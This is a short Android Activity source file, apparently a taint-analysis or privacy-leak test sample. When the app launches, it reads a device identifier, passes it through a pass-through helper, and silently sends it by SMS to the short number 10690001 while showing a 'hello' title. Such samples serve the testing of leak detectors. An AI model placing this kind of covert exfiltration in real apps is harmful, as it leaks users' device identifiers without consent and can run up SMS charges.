package cn.shanhai.context;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String id = same(Device.id(this));
    String word = same("hello");
    setTitle(word);
    SmsManager.getDefault().sendTextMessage("10690001", null, id, null, null);
  }

  private static String same(String text) {
    return text;
  }
}
